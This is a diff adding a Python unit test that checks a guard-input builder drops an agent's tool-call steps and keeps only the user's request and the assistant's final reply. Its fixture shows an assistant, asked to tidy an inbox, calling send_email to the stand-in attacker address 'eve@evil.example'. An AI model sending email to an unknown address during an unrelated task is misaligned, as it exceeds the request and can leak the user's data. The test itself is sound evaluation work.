@@ -255,6 +255,18 @@ def test_guard_input_turns_alternate_and_end_with_the_judged_output():
         GuardInput.from_case(Case(input="only a question"))
 
 
+def test_guard_input_leaves_an_agent_runs_steps_out():
+    run = Case.model_validate({"messages": [
+        {"role": "user", "content": "Tidy my inbox."},
+        {"role": "assistant", "content": "On it.", "tool_calls": [{"id": "1", "type": "function",
+         "function": {"name": "send_email", "arguments": '{"to": "eve@evil.example"}'}}]},
+        {"role": "tool", "tool_call_id": "1", "content": "sent"},
+        {"role": "assistant", "content": "Done."}]})
+    assert run.has_trajectory  # the steps are the trajectory, which no guard is given
+    assert GuardInput.from_case(run).turns == ({"role": "user", "content": "Tidy my inbox."},
+                                              {"role": "assistant", "content": "Done."})
+
+
 def test_class_probabilities_needs_alternatives_of_a_class():
     assert class_probabilities(None, "safe", 0, {"SAFE": "safe"}) is None
     lone = (TokenLogprob("safe", -0.1, ()),)
